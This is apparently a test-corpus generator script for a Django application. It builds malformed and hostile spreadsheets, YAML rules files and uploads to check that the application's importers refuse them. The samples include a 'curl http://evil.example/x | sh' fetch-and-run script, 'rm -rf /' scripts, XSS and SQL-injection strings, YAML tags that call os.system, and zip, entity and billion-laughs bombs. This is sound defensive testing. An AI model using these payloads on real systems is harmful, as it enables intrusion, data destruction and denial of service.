"""(Re)create the binary files of the hostile Excel corpus in tests/hostile/corpus/excel/.

    DJANGO_SETTINGS_MODULE=tests.settings .venv/bin/python tests/hostile/make_corpus.py

The files are committed; this script documents how each was made and lets them be rebuilt. Deterministic:
fixed codes, fixed dates, zip entries with a fixed timestamp. The "huge" sheets and the zip bombs are small on
disk (identical rows compress a thousandfold) and large once inflated.
"""

from __future__ import annotations

import io
import os
import sys
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
EXCEL = HERE / "corpus" / "excel"
STAMP = (2024, 1, 1, 0, 0, 0)


def _setup() -> None:
    sys.path.insert(0, str(HERE.parent.parent))
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "tests.settings")
    import django

    django.setup()


def _uscc(serial: int) -> str:
    from stdnum.cn import uscc

    body = f"91130104MA{serial:07d}"
    return body + uscc.calc_check_digit(body)


def _bad_uscc(serial: int) -> str:
    code = _uscc(serial)
    return code[:-1] + ("1" if code[-1] == "0" else "0")


def _save(book) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return _restamp(buffer.getvalue())


def _restamp(content: bytes) -> bytes:
    """The same workbook with fixed zip timestamps and core properties, so rebuilding changes no bytes."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "docProps/core.xml":
                import re

                data = re.sub(
                    rb"<dcterms:(created|modified)([^>]*)>[^<]*<", rb"<dcterms:\1\2>2024-01-01T00:00:00Z<", data
                )
            target.writestr(zipfile.ZipInfo(info.filename, STAMP), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _book(headers, rows, build=None) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = "Sheet1"
    if headers:
        sheet.append(list(headers))
    for row in rows:
        sheet.append(list(row))
    if build:
        build(book)
    return _save(book)


# --- the three importers' good rows ---------------------------------------------------------------------------


def _survey_row(serial: int, **overrides) -> list:
    from survey import formb
    from tests.survey.sheets import good_row

    code = overrides.pop("uscc", _uscc(serial))
    values = good_row(code, f"恶意测试公司{serial}", **overrides)
    return [values.get(column.field) for column in formb.COLUMNS]


def _bank_row(**overrides) -> list:
    row = {
        "voucher": "GK-H1",
        "application": "BX2022-SJZ-9999",
        "account": "6222000011112222",
        "amount": "10000.00",
        "paid_on": "2024-05-20",
        "result": "成功",
        "reason": "",
    }
    row.update(overrides)
    return list(row.values())


def _award_row(serial: int, **overrides) -> list:
    row = {
        "year": 2021,
        "programme": "专利保险补助",
        "uscc": _uscc(serial),
        "name": f"恶意测试公司{serial}",
        "patent": "ZL201710601862.3",
        "insurance": "其他",
        "amount": "5000.00",
    }
    row.update(overrides)
    return list(row.values())


def _headers():
    from finance.bank_import import HEADERS as BANK
    from patents.imports import HEADERS as AWARDS
    from survey.formb import HEADERS as SURVEY

    return {"survey": SURVEY, "bank": BANK, "awards": AWARDS}


def _good(importer: str, **overrides) -> list:
    if importer == "survey":
        return _survey_row(900001, **overrides)
    if importer == "bank":
        return _bank_row(**overrides)
    return _award_row(900001, **overrides)


# --- files that are not what they claim -------------------------------------------------------------------------


def _zip(entries: dict[str, bytes], compress=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compress) as archive:
        for name, data in entries.items():
            archive.writestr(zipfile.ZipInfo(name, STAMP), data, compress)
    return out.getvalue()


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
ROOT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
    b'main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    b'<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)


def _cell(text: str) -> bytes:
    from xml.sax.saxutils import escape

    return b'<c t="inlineStr"><is><t>' + escape(text).encode() + b"</t></is></c>"


def _handmade(headers, body_rows: bytes, extra: bytes = b"", prolog: bytes = b"") -> bytes:
    """A minimal workbook written by hand: the header row, then ``body_rows`` (raw <row> XML) verbatim."""
    header = b"<row>" + b"".join(_cell(h) for h in headers) + b"</row>"
    sheet = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        + prolog
        + b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + header
        + body_rows
        + b"</sheetData>"
        + extra
        + b"</worksheet>"
    )
    return _zip(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "_rels/.rels": ROOT_RELS,
            "xl/workbook.xml": WORKBOOK,
            "xl/_rels/workbook.xml.rels": WORKBOOK_RELS,
            "xl/worksheets/sheet1.xml": sheet,
        }
    )


def generic_files() -> dict[str, bytes]:
    """Files every importer must refuse the same way, whatever its template."""
    from openpyxl import Workbook

    empty = Workbook()
    empty.active.title = "Sheet1"
    return {
        "pdf_renamed.xlsx": b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
        "text_renamed.xlsx": "年度,项目,统一社会信用代码\n2021,专利保险补助,911301040000000000\n".encode(),
        "csv_gbk_renamed.xlsx": "凭证号,金额\nGK1,100\n".encode("gbk"),
        "ole_xls_renamed.xlsx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
        "elf_renamed.xlsx": b"\x7fELF\x02\x01\x01" + b"\x00" * 57,
        "zip_with_script.xlsx": _zip({"run.sh": b"#!/bin/sh\nrm -rf /\n", "readme.txt": b"hello"}),
        "docx_renamed.xlsx": _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}),
        "truncated_zip.xlsx": _book(("a",), [("b",)])[:300],
        "damaged_workbook_xml.xlsx": _zip(
            {"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": b"<workbook><sheets><sheet"}
        ),
        "empty_workbook.xlsx": _save(empty),
        "empty_file.xlsx": b"",
    }


def _zip_bomb(headers) -> bytes:
    """A well-formed workbook in the template's shape whose sheet XML inflates to ~240 MB of blank rows."""
    return _handmade(headers, b"<row/>" * (40 * 1024 * 1024))


def template_files(importer: str) -> dict[str, bytes]:
    """Files in (or nearly in) this importer's template, each wrong in one way."""
    headers = _headers()[importer]
    good = _good(importer)
    files: dict[str, bytes] = {}
    other = {"survey": "bank", "bank": "awards", "awards": "survey"}[importer]
    files["wrong_template"] = _book(_headers()[other], [_good(other)])
    files["extra_column"] = _book((*headers, "备注"), [[*good, "多余"]])
    files["header_only"] = _book(headers, [])
    files["no_header"] = _book(None, [good])

    def merge(book):
        book.active.merge_cells("A2:A3")

    files["merged_cells"] = _book(headers, [good, _good(importer) if importer == "bank" else good], merge)
    formula = list(good)
    formula[-1 if importer == "awards" else 3] = "=SUM(1,2)"
    files["formula"] = _book(headers, [formula])

    def hide_first(book):
        decoy = book.create_sheet("填写说明", 0)
        decoy.append(["请在下一个工作表填写"])
        book.worksheets[1].sheet_state = "hidden"  # the data sheet comes first in the file, but hidden
        book.move_sheet(book.worksheets[1], offset=-1)
        book.active = 1

    files["hidden_first_sheet"] = _book(headers, [good], hide_first)
    # "Huge": one row beyond the importer's limit, identical rows without coordinates (a few KB on disk).
    limit = {"survey": 20_000, "bank": 5_000, "awards": 50_000}[importer]
    files["huge_sheet"] = _handmade(headers, (b"<row>" + _cell("1") + b"</row>") * (limit + 1))
    files["zip_bomb"] = _zip_bomb(headers)
    files["entity_bomb"] = _handmade(
        headers,
        b"<row>" + _cell("x").replace(b"x", b"&lol9;") + b"</row>",
        prolog=b'<!DOCTYPE worksheet [<!ENTITY lol "lol">'
        + b"".join(
            f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode() for i in range(1, 10)
        )
        + b"]>",
    )
    files["broken_sheet_xml"] = _handmade(headers, b"<row>" + _cell("1") + b"<row><c>")

    if importer == "survey":
        files["bad_uscc_checksum"] = _book(headers, [_survey_row(900001, uscc=_bad_uscc(900001))])
        files["uscc_as_number"] = _book(headers, [_survey_row(900001, uscc=911301047000001234)])
        files["month_as_text"] = _book(headers, [_survey_row(900001, filled_month="三月份")])
        files["negative_money"] = _book(headers, [_survey_row(900001, assets=-5)])
        files["absurd_money"] = _book(headers, [_survey_row(900001, amount_sought=1e30)])
        files["bad_choice"] = _book(headers, [_survey_row(900001, size="超大型")])
        files["duplicate_enterprise"] = _book(headers, [_survey_row(900001), _survey_row(900001)])
        files["control_good"] = _book(headers, [_survey_row(900002), _survey_row(900003)])
    elif importer == "bank":
        files["date_as_text"] = _book(headers, [_bank_row(paid_on="2024年5月20日")])
        files["future_date"] = _book(headers, [_bank_row(paid_on="2999-01-01")])
        files["amount_too_precise"] = _book(headers, [_bank_row(amount="100.001")])
        files["amount_nan"] = _book(headers, [_bank_row(amount="NaN")])
        files["amount_absurd"] = _book(headers, [_bank_row(amount=1e30)])
        files["amount_with_commas"] = _book(headers, [_bank_row(amount="1,000")])
        files["bad_result"] = _book(headers, [_bank_row(result="也许")])
        files["unknown_application"] = _book(headers, [_bank_row(application="<script>alert(1)</script>")])
    else:
        files["year_as_text"] = _book(headers, [_award_row(900001, year="二〇二一年")])
        files["year_out_of_range"] = _book(headers, [_award_row(900001, year=2015)])
        files["bad_uscc_checksum"] = _book(headers, [_award_row(900001, uscc=_bad_uscc(900001))])
        files["uscc_as_number"] = _book(headers, [_award_row(900001, uscc=911301047000001234)])
        files["bad_programme"] = _book(headers, [_award_row(900001, programme="专利补助")])
        files["negative_amount"] = _book(headers, [_award_row(900001, amount=-100)])
        files["amount_nan"] = _book(headers, [_award_row(900001, amount="NaN")])
        files["amount_absurd"] = _book(headers, [_award_row(900001, amount=1e30)])
        files["amount_too_precise"] = _book(headers, [_award_row(900001, amount="12.345")])
        files["several_patents_in_a_cell"] = _book(
            headers, [_award_row(900001, patent="ZL201710601862.3、ZL201710601863.1")]
        )
        files["duplicate_rows"] = _book(headers, [_award_row(900001), _award_row(900001)])
        files["control_good"] = _book(headers, [_award_row(900002), _award_row(900003)])
    return {f"{importer}_{name}.xlsx": data for name, data in files.items()}


# --- rules files --------------------------------------------------------------------------------------------------

RULES = HERE / "corpus" / "yaml"
VALID = HERE.parent / "scoring" / "fixtures" / "valid" / "insurance" / "insurance-2021.yaml"
BROKEN = ("unknown_key", "duplicate_key", "wrong_type", "bad_date", "weights", "unknown_fact", "bad_expression")


def yaml_files() -> dict[str, bytes]:
    """Broken editions of insurance-2021: the scoring fixtures copied, and one edit of the valid one each."""
    valid = VALID.read_text(encoding="utf-8")
    files = {
        f"{name}.yaml": (HERE.parent / "scoring" / "fixtures" / name / "insurance" / "insurance-2021.yaml").read_bytes()
        for name in BROKEN
    }
    edits = {
        "python_tag": ("title: 测试版本", "title: !!python/object/apply:os.system [echo pwned]"),
        "python_name": ("title: 测试版本", "title: !!python/name:os.system"),
        "custom_tag_mapping": ("aggregation: {method: mean}", "aggregation: !include {method: mean}"),
        "recursive_alias": ("title: 测试版本", "title: &t [*t]"),
        "alias_reuse": ("title: 测试版本", "title: &t 测试版本\n  version_note: *t"),
        "merge_key": ("  cap: {label: 上限, value: 50000}", "  cap: {<<: {label: 上限}, value: 50000}"),
        "hex_number": ("total_points: 100", "total_points: 0x64"),
        "nan_number": ("max_points: 10\n", "max_points: .nan\n"),
        "datetime_not_date": ("value: 2021-01-01}", "value: 2021-01-01 08:00:00}"),
        "missing_required": ("  label: 默认评分表\n", ""),
        "list_not_mapping": ("aggregation: {method: mean}", "aggregation: [mean]"),
        "level_out_of_range": (
            "levels: [{min: 0, max: 90, descriptor: 全部}]",
            "levels: [{min: 0, max: 95, descriptor: 全部}]",
        ),
        "pass_mark_too_high": ("pass_mark: 60", "pass_mark: 160"),
        "unknown_ranking_key": ("ranking: [{key: score, order: desc}]", "ranking: [{key: salary, order: desc}]"),
        "cap_not_numeric": ("caps: {per_enterprise: cap}", "caps: {per_enterprise: title}"),
        "duplicate_id": ("  - id: policy_in_cycle", "  - id: registered_in_hebei"),
        "id_not_file_name": ("id: insurance-2021", "id: insurance-2099"),
        "sql_in_expression": ("condition: registered_in_hebei", 'condition: "1; DROP TABLE workflow_application; --"'),
        "dunder_in_expression": ("formula: first_year_premium", "formula: first_year_premium.__class__"),
        "script_in_label": ("label: 在河北注册", "label: 1\n    colour: <script>alert(1)</script>"),
        "tab_indent": ("  programme: insurance", "\tprogramme: insurance"),
        "deep_nesting": ("title: 测试版本", "title: " + "[" * 600 + "]" * 600),
    }
    for name, (old, new) in edits.items():
        assert old in valid, name
        files[f"{name}.yaml"] = valid.replace(old, new, 1).encode("utf-8")
    files["not_utf8.yaml"] = valid.encode("gbk")
    files["empty.yaml"] = b""
    files["top_level_list.yaml"] = b"- edition\n- rubric\n"
    laughs = 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
    for i in range(1, 9):
        previous = chr(ord("a") + i - 1)
        laughs += f"{chr(ord('a') + i)}: &{chr(ord('a') + i)} [{', '.join(['*' + previous] * 9)}]\n"
    files["billion_laughs.yaml"] = laughs.encode()
    return files


# --- uploaded materials -----------------------------------------------------------------------------------------

UPLOADS = HERE / "corpus" / "uploads"
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def upload_files() -> dict[str, bytes]:
    """Files whose bytes are not what their names claim (the names the tests upload them under are in cases.yaml)."""
    png = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 17
    return {
        "pe_exe.bin": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 54 + b"PE\x00\x00" + b"\x00" * 60,
        "elf.bin": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56,
        "shell_script.bin": b"#!/bin/sh\ncurl http://evil.example/x | sh\n",
        "zip_with_script.bin": _zip({"run.sh": b"#!/bin/sh\nrm -rf /\n", "doc.txt": b"x"}),
        "html_script.bin": b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>",
        "svg_script.bin": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "png.bin": png,
        "xlsx_zip.bin": _zip({"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": WORKBOOK}),
        "ofd_zip.bin": _zip({"OFD.xml": b"<ofd:OFD/>"}),
        "ole2.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
        "pdf_zip_polyglot.bin": PDF + _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}),
        "zip_pdf_polyglot.bin": _zip({"[Content_Types].xml": b"<Types/>", "word/x.xml": b"<w/>"}) + PDF,
        "truncated_zip.bin": b"PK\x03\x04" + b"\x00" * 40,
        "good.pdf": PDF,
        "empty.bin": b"",
    }


def main() -> None:
    _setup()
    UPLOADS.mkdir(parents=True, exist_ok=True)
    for name, data in sorted(upload_files().items()):
        (UPLOADS / name).write_bytes(data)
    RULES.mkdir(parents=True, exist_ok=True)
    for name, data in sorted(yaml_files().items()):
        (RULES / name).write_bytes(data)
    EXCEL.mkdir(parents=True, exist_ok=True)
    files = generic_files()
    for importer in ("survey", "bank", "awards"):
        files.update(template_files(importer))
    for name, data in sorted(files.items()):
        (EXCEL / name).write_bytes(data)
    total = sum(len(d) for d in files.values())
    print(f"{len(files)} files, {total / 1024:.0f} KB in {EXCEL}")


if __name__ == "__main__":
    main()
